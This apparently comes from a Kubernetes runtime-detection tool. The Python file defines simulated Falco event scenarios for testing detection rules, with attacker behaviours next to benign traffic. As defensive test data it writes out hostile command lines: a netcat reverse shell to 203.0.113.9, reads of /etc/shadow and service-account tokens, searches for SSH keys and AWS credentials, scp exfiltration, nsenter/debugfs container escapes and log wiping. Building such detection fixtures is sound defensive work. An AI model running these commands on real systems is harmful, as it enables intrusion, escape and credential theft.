# SPDX-License-Identifier: Apache-2.0
"""What do attackers do, as the fields of an event that Falco sees, and what is ordinary?

Each scenario is written from what happens on the node, not from any rule. D1 to D14 are the goals
of kguard's required-detection baseline; `D4.mount` is another way to the goal D4. Users add their
own in kguard.yaml.
"""

from __future__ import annotations

import msgspec

from kguard.layers.runtime.semantics.compiler import CompiledRule
from kguard.layers.runtime.semantics.environment import K8S_AUDIT, SYSCALL
from kguard.layers.runtime.semantics.evaluation import holds
from kguard.layers.runtime.semantics.valuations import (
    Values,
    audited,
    connected,
    opened,
    process,
    started,
)


class Scenario(msgspec.Struct, frozen=True):
    """One event of an attack; fields that are not named are missing in the event."""

    id: str
    title: str
    event: dict[str, Values]
    source: str = SYSCALL
    asked: bool = False
    """Whether a user added it."""

    @property
    def event_type(self) -> str:
        """The system call that it is."""
        found = self.event.get("evt.type", "")
        return found if isinstance(found, str) else ""


_CURL = process("curl", "/usr/bin/curl", "curl -s https://example.com", "sh")

SCENARIOS: tuple[Scenario, ...] = (
    Scenario(
        "D1",
        "a shell opened inside a container",
        {**started("bash", "/bin/bash", "bash", "runc"), "proc.tty": "34816"},
    ),
    Scenario(
        "D2",
        "a binary that is not part of the image, started",
        {
            **started("implant", "/srv/implant", "implant --connect", "sh"),
            "proc.is_exe_upper_layer": "true",
            "proc.is_exe_writable": "true",
        },
    ),
    Scenario(
        "D3",
        "a program started from memory",
        {
            **started("3", "/proc/self/fd/3", "3", "python3"),
            "proc.exepath": "memfd:x",
            "proc.is_exe_from_memfd": "true",
        },
    ),
    Scenario(
        "D4",
        "an escape from the container through release_agent",
        {
            **opened(
                process("sh", "/bin/sh", "sh -c escape"),
                "/sys/fs/cgroup/rdma/release_agent",
                write=True,
            ),
            "user.uid": "0",
            "user.name": "root",
            "thread.cap_effective": "CAP_DAC_OVERRIDE CAP_SYS_ADMIN",
        },
    ),
    Scenario(
        "D4.debugfs",
        "the disk of the node opened from a privileged container",
        {
            **started("debugfs", "/sbin/debugfs", "debugfs -w /dev/sda1", "sh"),
            "container.privileged": "true",
            "user.uid": "0",
        },
    ),
    Scenario(
        "D4.nsenter",
        "the namespaces of the node's first process entered",
        {
            **process("nsenter", "/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n sh", "sh"),
            "evt.type": "setns",
            "evt.res": "SUCCESS",
            "evt.rawres": "0",
            "container.privileged": "true",
            "user.uid": "0",
        },
    ),
    Scenario(
        "D4.mount",
        "a disk of the node mounted in a privileged container",
        {
            **started("mount", "/bin/mount", "mount /dev/sda1 /mnt", "sh"),
            "container.privileged": "true",
            "user.uid": "0",
        },
    ),
    Scenario(
        "D5",
        "the file of password hashes read",
        opened(process("cat", "/bin/cat", "cat /etc/shadow", "sh"), "/etc/shadow"),
    ),
    Scenario(
        "D5.keys",
        "private keys looked for",
        started("find", "/usr/bin/find", "find / -name id_rsa", "sh"),
    ),
    Scenario(
        "D5.cloud",
        "the cloud's credentials looked for",
        started("find", "/usr/bin/find", "find / -path *.aws/credentials", "sh"),
    ),
    Scenario(
        "D5.token",
        "the token of the pod's service account read with a tool",
        opened(
            process("cat", "/bin/cat", "cat /run/secrets/token", "sh"),
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
        ),
    ),
    Scenario(
        "D6",
        "standard input bound to a connection, as a reverse shell does",
        {
            **connected(process("bash", "/bin/bash", "bash -i", "python3"), "203.0.113.9", "4444"),
            "evt.type": "dup2",
            "evt.rawres": "0",
            "evt.res": "0",
            "fd.num": "0",
            "proc.tty": "0",
        },
    ),
    Scenario(
        "D6.netcat",
        "netcat that hands a shell to whoever connects",
        started("nc", "/bin/nc", "nc -e /bin/sh 203.0.113.9 4444", "sh"),
    ),
    Scenario(
        "D7",
        "the API server contacted from a container",
        {
            **connected(_CURL, "10.96.0.1", "443"),
            "fd.sip.name": "kubernetes.default.svc.cluster.local",
        },
    ),
    Scenario(
        "D8",
        "the metadata service of the cloud contacted",
        connected(_CURL, "169.254.169.254", "80"),
    ),
    Scenario(
        "D9",
        "a package manager started inside a container",
        started("apt-get", "/usr/bin/apt-get", "apt-get install -y nmap", "sh"),
    ),
    Scenario(
        "D9.copy",
        "files copied to another machine",
        started("scp", "/usr/bin/scp", "scp /srv/data.tar mallory@203.0.113.9:", "sh"),
    ),
    Scenario(
        "D10",
        "a miner that talks to its pool",
        started(
            "xmrig", "/srv/xmrig", "xmrig -o stratum+tcp://pool.minexmr.com:4444 -u wallet", "sh"
        ),
    ),
    Scenario(
        "D11",
        "log files wiped",
        {
            **opened(
                process("truncate", "/usr/bin/truncate", "truncate -s 0 /var/log/auth.log", "sh"),
                "/var/log/auth.log",
                write=True,
            ),
            "evt.arg.flags": "O_TRUNC|O_WRONLY",
        },
    ),
    Scenario(
        "D11.history",
        "the shell's history emptied",
        {
            **opened(
                process("bash", "/bin/bash", "bash", "runc"), "/root/.bash_history", write=True
            ),
            "evt.arg.flags": "O_TRUNC|O_WRONLY",
        },
    ),
    Scenario(
        "D12",
        "a privileged container started",
        {
            **started("sh", "/bin/sh", "sh", "containerd-shim"),
            "container.privileged": "true",
            "proc.vpid": "1",
            "proc.duration": "1000000",
        },
    ),
    Scenario(
        "D12.mount",
        "a container started that has the node's Docker socket",
        {
            **started("sh", "/bin/sh", "sh", "containerd-shim"),
            "container.mounts": "/var/run/docker.sock:/var/run/docker.sock:rw:true:rprivate",
            "proc.vpid": "1",
            "proc.duration": "1000000",
        },
    ),
    Scenario(
        "D13",
        "a command started in a pod with kubectl exec",
        audited("create", "pods", "web-1", subresource="exec", stage="ResponseStarted", code="101"),
        K8S_AUDIT,
    ),
    Scenario(
        "D13.forward",
        "a port of a pod forwarded with kubectl port-forward",
        audited(
            *("create", "pods", "web-1"),
            subresource="portforward",
            stage="ResponseStarted",
            code="101",
        ),
        K8S_AUDIT,
    ),
    Scenario(
        "D14",
        "a connection to an address outside of the cluster that nobody meant",
        connected(
            process("web", "/srv/web", "web --listen :8080", "containerd-shim"),
            *("198.51.100.77", "8443"),
        ),
    ),
)
"""In the order of their ids."""

ORDINARY: tuple[Scenario, ...] = (
    Scenario(
        "probe",
        "a readiness probe that runs a program of the image",
        started("cat", "/bin/cat", "cat /tmp/healthy", "containerd-shim"),
    ),
    Scenario(
        "queue-proxy",
        "Knative's queue-proxy starts and talks to the autoscaler",
        {
            **connected(
                process("queue", "/ko-app/queue", "queue", "containerd-shim"), "10.0.0.9", "8080"
            ),
            "container.name": "queue-proxy",
        },
    ),
    Scenario(
        "istio-proxy",
        "Envoy started by its agent",
        {
            **started("envoy", "/usr/local/bin/envoy", "envoy -c etc/envoy.json", "pilot-agent"),
            "container.name": "istio-proxy",
        },
    ),
    Scenario(
        "request",
        "a program of the image calls another Service",
        connected(
            process("web", "/srv/web", "web --listen :8080", "containerd-shim"), "10.0.0.9", "8080"
        ),
    ),
    Scenario(
        "token",
        "a program of the image reads the token of its service account",
        opened(
            process("web", "/srv/web", "web --listen :8080", "containerd-shim"),
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
        ),
    ),
)
"""What happens all the time; a rule that fires here drowns the others."""


def noticed(rule: CompiledRule, scenario: Scenario) -> bool | None:
    """Whether the event of a scenario meets a rule; None where that cannot be told."""
    if rule.info.source != scenario.source:
        return False
    if scenario.source == SYSCALL and scenario.event_type not in rule.types:
        return False
    return holds(rule.condition, scenario.event)
